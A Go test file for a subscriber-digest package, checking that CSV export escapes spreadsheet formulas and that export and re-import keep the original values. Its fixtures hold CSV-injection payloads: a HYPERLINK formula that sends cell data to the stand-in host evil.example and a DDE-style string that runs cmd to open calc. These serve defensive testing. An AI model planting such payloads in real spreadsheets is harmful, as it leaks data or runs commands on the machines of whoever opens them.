package digests

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"
	"time"
)

func TestEscapeCellRoundTrip(t *testing.T) {
	tests := []struct{ name, value, cell string }{
		{"plain text unchanged", "events", "events"},
		{"empty unchanged", "", ""},
		{"equals sign", "=1+2", "'=1+2"},
		{"plus sign", "+48 news", "'+48 news"},
		{"minus sign", "-ann@example.org", "'-ann@example.org"},
		{"at sign", "@SUM(1+1)", "'@SUM(1+1)"},
		{"tab", "\tcmd", "'\tcmd"},
		{"carriage return", "\rcmd", "'\rcmd"},
		{"apostrophe before text unchanged", "'quoted'", "'quoted'"},
		{"apostrophe before formula", "'=x", "''=x"},
		{"formula inside unchanged", "a=b", "a=b"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := escapeCell(tt.value); got != tt.cell {
				t.Errorf("escapeCell(%q) = %q, want %q", tt.value, got, tt.cell)
			}
			if got := unescapeCell(tt.cell); got != tt.value {
				t.Errorf("unescapeCell(%q) = %q, want %q", tt.cell, got, tt.value)
			}
		})
	}
}

// TestExportNeutralisesFormulas pins an export whose cells spreadsheets
// ran as formulas, from records stored before sign-ups were checked.
func TestExportNeutralisesFormulas(t *testing.T) {
	e := newDigestEnv(t)
	ctx := testContext(t)
	at := time.Date(2026, 12, 4, 20, 19, 49, 0, time.UTC)
	for _, s := range []*Subscriber{
		{Digest: "daily", Email: "frank@example.org", Locale: "en", TimeZone: "UTC", Status: StatusPending, CreatedAt: at,
			Categories: []string{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, `@SUM(1+1)*cmd|" /C calc"!A0`}},
		{Digest: "daily", Email: "=1+2@example.org", Locale: "en", TimeZone: "UTC", Status: StatusPending, CreatedAt: at,
			Categories: []string{"\tcmd"}, Partners: []string{"+wipk"}},
	} {
		if _, err := e.Store.Put(ctx, s, 0); err != nil {
			t.Fatalf("storing %s: %v", s.Email, err)
		}
	}
	var out bytes.Buffer
	if err := e.Store.Export(ctx, "daily", &out); err != nil {
		t.Fatalf("Export returned error: %v", err)
	}
	rows, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatalf("reading the export as CSV: %v", err)
	}
	if len(rows) != 3 {
		t.Fatalf("export has %d rows, want the header and 2", len(rows))
	}
	for _, row := range rows[1:] {
		for col, cell := range row {
			if cell != "" && strings.ContainsRune(formulaStart, rune(cell[0])) {
				t.Errorf("column %s starts with %q, which spreadsheets run: %q", csvHeader[col], cell[0], cell)
			}
		}
	}
	want := []string{"'=1+2@example.org", `'=HYPERLINK("http://evil.example/?"&A1,"Click") @SUM(1+1)*cmd|" /C calc"!A0`, "'\tcmd", "'+wipk"}
	for _, cell := range want {
		if !slices.ContainsFunc(rows[1:], func(row []string) bool { return slices.Contains(row, cell) }) {
			t.Errorf("export lacks the escaped cell %q:\n%s", cell, rows)
		}
	}
}

// TestExportImportKeepsFormulaValues checks that the apostrophe Export
// adds does not end up in the imported values.
func TestExportImportKeepsFormulaValues(t *testing.T) {
	e := newDigestEnv(t)
	ctx := testContext(t)
	consent := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	orig := &Subscriber{
		Digest: "daily", Email: "-ann@example.org", Locale: "pl", TimeZone: "Europe/Warsaw",
		Languages: []string{"pl"}, Partners: []string{"wipk"},
		Categories: []string{"-minus", "+plus", "@at", "=equals", "'quoted", "'=both"},
		Status:     StatusConfirmed, CreatedAt: consent, ConfirmedAt: &consent, CoveredUntil: consent,
	}
	if _, err := e.Store.Put(ctx, orig, 0); err != nil {
		t.Fatalf("storing subscriber: %v", err)
	}
	var out bytes.Buffer
	if err := e.Store.Export(ctx, "daily", &out); err != nil {
		t.Fatalf("Export returned error: %v", err)
	}
	// Purge, unlike Remove, leaves no suppression that would skip the row.
	if err := e.Store.kv.Purge(ctx, orig.Key()); err != nil {
		t.Fatalf("purging subscriber: %v", err)
	}
	rep, err := e.Store.Import(ctx, "daily", &out)
	if err != nil {
		t.Fatalf("Import returned error: %v", err)
	}
	if rep.Added != 1 {
		t.Fatalf("import report = %+v, want 1 added", rep)
	}
	got, _, err := e.Store.Find(ctx, "daily", orig.Email)
	if err != nil {
		t.Fatalf("Find %s after import: %v", orig.Email, err)
	}
	if got.Email != orig.Email {
		t.Errorf("email = %q, want %q", got.Email, orig.Email)
	}
	if !slices.Equal(got.Categories, orig.Categories) {
		t.Errorf("categories = %q, want %q", got.Categories, orig.Categories)
	}
	if !slices.Equal(got.Partners, orig.Partners) || !slices.Equal(got.Languages, orig.Languages) {
		t.Errorf("partners, languages = %q, %q, want %q, %q", got.Partners, got.Languages, orig.Partners, orig.Languages)
	}
}
